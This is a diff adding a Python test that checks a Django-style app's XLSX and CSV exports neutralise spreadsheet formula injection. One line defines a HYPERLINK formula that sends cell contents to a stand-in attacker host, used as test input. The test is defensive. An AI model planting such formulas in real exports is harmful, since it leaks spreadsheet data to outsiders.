@@ -722,6 +722,24 @@ def test_it_exports_xlsx(desk):
     assert sheet.max_row == Event.objects.count() + 1
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bron")'
+
+
+def test_it_exports_formulae_as_text_in_xlsx_and_csv(desk):
+    Event.objects.filter(slug=CALL).update(title=FORMULA, summary="@Kyiv")
+    data = form_data(desk.get(EXPORT), None)
+    data["format"] = "1"
+    sheet = openpyxl.load_workbook(io.BytesIO(desk.post(EXPORT, data).content)).active
+    header = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("Slug")].value == CALL)
+    headline = row[header.index("Headline")]
+    assert (headline.value, headline.data_type) == (FORMULA, "s")  # text, not a formula
+    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
+
+    rows = {r["Slug"]: r for r in csv.DictReader(io.StringIO(_export_csv(desk)))}
+    assert (rows[CALL]["Headline"], rows[CALL]["Text"]) == ("'" + FORMULA, "'@Kyiv")
+
+
 def test_it_imports_nothing_when_one_row_is_bad_and_names_row_and_reason(desk):
     bad = dict(GOOD[1], Slug="kapot", Actors="lavrov:speaker; onbekende-man:subject")
     counts = (Event.objects.count(), Participation.objects.count())
